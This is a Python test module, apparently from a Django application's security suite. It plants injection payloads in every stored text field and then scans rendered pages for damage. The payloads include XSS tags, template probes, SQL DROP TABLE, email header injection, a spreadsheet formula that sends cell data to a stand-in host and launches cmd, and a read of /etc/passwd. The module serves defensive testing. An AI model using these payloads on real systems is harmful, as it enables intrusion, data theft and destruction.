"""Hostile texts, planted wherever a text can stand, and what must not become of them on a page."""

import base64
import json
import re
from collections.abc import Iterator
from functools import lru_cache
from html.parser import HTMLParser
from xml.etree import ElementTree

from django.apps import apps
from django.db import connection, models

from plans.fields import PeriodField
from tests.architecture.world import World
from tests.ours import OF_A_COUNCIL
from tests.trail import forging

MARKUP = (
    "\"'><pmmi-x data-pmmi=\"1\" onmouseover='alert(1)'></textarea></title></script><script>alert(1)</script>"
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>&lt;b&gt;<!-- {{ 7*7 }}{% now 'Y' %}{# x #} ${7*7} "
    "javascript:alert(1) <a href='javascript:alert(1)'>x</a>"
)
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")+cmd|\' /C calc\'!A0'
TYPESETTING = '#read("/etc/passwd") #{1+1} $x^2$ @ref <label> *b* _i_ `raw` // /* = Title \\ [x] #image("a.png")'
SQL = "'; DROP TABLE accounts_user; -- \" OR 1=1 %s %(x)s ? \\' \\\\"
LINES = "One\r\nBcc: victim@elsewhere.example\r\n\r\nTwo\u2028Three\u0085Four"
DIRECTION = "\u202eevil\u202c \u2066x\u2069 \u200b\u200f 👩‍👩‍👧‍👦 e\u0301\u0301\u0301 \ufeff\uffff \x07\x1b[31m"
NUL = "before\x00after"
ATTACKS = {
    "markup": MARKUP,
    "formula": f"{FORMULA} {TYPESETTING}",
    "text": f"{SQL} {LINES} {DIRECTION} {NUL}",
    "long": "Donaudampfschiff" * 150,
}
# What a short field holds of them.
SHORT = {"markup": "\"'><pmmi-x a='", "formula": "=1+1 #x $y", "text": "';\r\nBcc:\u202eb\x00", "long": "W" * 40}
# Part of an address: no form and no import lets a slash in.
IN_ADDRESSES = {"ref"}
# Too short for all of an attack, and no two of them the same.
NUMBERED = {"code"}
# Stored with its day or not at all.
WHERE_THERE_IS_ONE = {"target_decisions.Proposal.meeting", "target_decisions.TargetQuestion.answer"}
# Read by the product itself: what no form lets in breaks it.
READ = {"indicators.Formula.text"}
KEPT = {
    "section",
    "grouping",  # of councils: for which measures a group holds
    "digest",
    "previous_digest",
    "checksum",
    "password",
    "email",
    "lease_token",
    "kind",  # of a file: which import reads it
    "plan_digest",
    "needs",
    "colour",
    "about",  # of a watch and a notice: which kind of thing, as the code names it; of it there is one for each person
    "field",  # of a move: which it is, and its values
    "was",
    "became",
}


def plant(attack: str, world: World) -> int:
    """Put the attack into every text of every row, past every form; how many fields. Documents keep their shape."""
    long, short = ATTACKS[attack], SHORT[attack]
    if "\x00" in long and connection.vendor == "postgresql":
        long, short = long.replace("\x00", "\x01"), short.replace("\x00", "\x01")  # the database itself refuses it
    fields = list(text_fields())
    with forging():
        for model, field in fields:
            limit = field.max_length or 20_000
            rows = model._base_manager.all()
            if str(field) in WHERE_THERE_IS_ONE:
                rows = rows.exclude(**{field.name: ""})
            for pk in rows.values_list("pk", flat=True):
                # A public pack is refused where it holds words of an exempt risk, so nothing else has a risk's words.
                own = f"of a risk {pk}" if model._meta.app_label == "risks" else str(pk)
                text = f"{long} {own}" if limit >= len(long) + len(own) + 7 else f"{short}{own}"
                if field.name in IN_ADDRESSES:
                    text = text.replace("/", "|").replace("\x00", "")[: limit - 6] + f" {pk}"
                elif field.name in NUMBERED:
                    text = text[: limit - 6] + f" {pk}"
                model._base_manager.filter(pk=pk).update(**{field.name: text[:limit]})
        _documents(long)
    _refresh(world)
    return len(fields)


def text_fields() -> Iterator[tuple[type[models.Model], models.Field]]:
    """Every field in which a person's words can stand."""
    for model in apps.get_models():
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField) and not isinstance(field, PeriodField)
            if (
                model._meta.app_label in OF_A_COUNCIL
                and is_text
                and not field.choices
                and field.name not in KEPT
                and str(field) not in READ
            ):
                is_reference = field.name.endswith(("_type", "_id", "_digest"))
                if not is_reference:
                    yield model, field


def _documents(text: str) -> None:
    """The words inside JSON: a council's own words for a status, what a history line says, a reminder's lines."""
    bands = apps.get_model("indicators", "Scheme")
    for scheme in bands.objects.all():
        told = {key: {**band, "word": text[:60], "meaning": text[:200]} for key, band in scheme.bands.items()}
        bands._base_manager.filter(pk=scheme.pk).update(bands=told)
    apps.get_model("accounts", "Event")._base_manager.update(changes={text[:60]: [text, text]})
    apps.get_model("reporting", "Reminder")._base_manager.update(
        lines=[{"text": text, "path": "/", "because": text, "post": text}]
    )
    apps.get_model("reporting", "Run")._base_manager.update(timings=[[text, 1.5]])


_WRITTEN = ("draft_", "submitted_", "signed_off_")


def _refresh(world: World) -> None:
    """The references that addresses are made of."""
    for side in (world.ours, world.theirs, world.partners):
        for thing in (side.plan, side.priority, side.objective, side.milestone, *side.measures.values()):
            thing.refresh_from_db()
        for name, thing in side.extras.items():
            if name in ("risk", "exempt_risk", "calm", "merged") or name.startswith((*_WRITTEN, "private_")):
                thing.refresh_from_db()


_RUNS = re.compile(r"\s*(javascript|data|vbscript):", re.IGNORECASE)
_DRAWING = "data:image/svg+xml;base64,"


class Page(HTMLParser):
    """Finds what an attack made of a page: elements, attributes and scripts that no template wrote."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script: list[str] | None = None

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = dict(attributes)
        if tag == "script" and "src" not in given:
            self._script = []
            if given.get("type") != "application/json":
                self.found.append("<script> of its own")
        if tag.startswith("pmmi-") or tag in ("iframe", "object", "embed", "style", "base"):
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            if name.startswith("on") or name in ("data-pmmi", "style", "srcdoc") or "pmmi" in name:
                self.found.append(f"<{tag} {name}>")
            if tag == "img" and (value or "").startswith(_DRAWING):
                self._drawing(base64.b64decode((value or "").removeprefix(_DRAWING)))
            elif name in ("href", "src", "action", "formaction") and _RUNS.match(value or ""):
                self.found.append(f"<{tag} {name}={value:.60}>")
        if tag == "img" and given.get("src") == "x":
            self.found.append("<img src=x>")

    def _drawing(self, svg: bytes) -> None:
        for element in ElementTree.fromstring(svg).iter():
            name = element.tag.rpartition("}")[2]
            if name in ("script", "foreignObject", "a", "image", "use") or name.startswith("pmmi"):
                self.found.append(f"<{name}> in a drawing")
            self.found += [f"<{name} {key}> in a drawing" for key in element.attrib if key.startswith("on")]

    def handle_data(self, text: str) -> None:
        if self._script is not None:
            self._script.append(text)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            if "".join(self._script).strip():
                json.loads("".join(self._script))
            self._script = None


@lru_cache(maxsize=32)  # a page that takes no notice of what it is asked is the same page again and again
def damage(page: str) -> tuple[str, ...]:
    """What an attack did to the page; nothing, where everything is text."""
    reader = Page()
    reader.feed(page)
    reader.close()
    if re.search(r"\$49|49\$|\D49\{|2026\{# x", page):
        reader.found.append("a template's tag was obeyed")
    return tuple(reader.found)
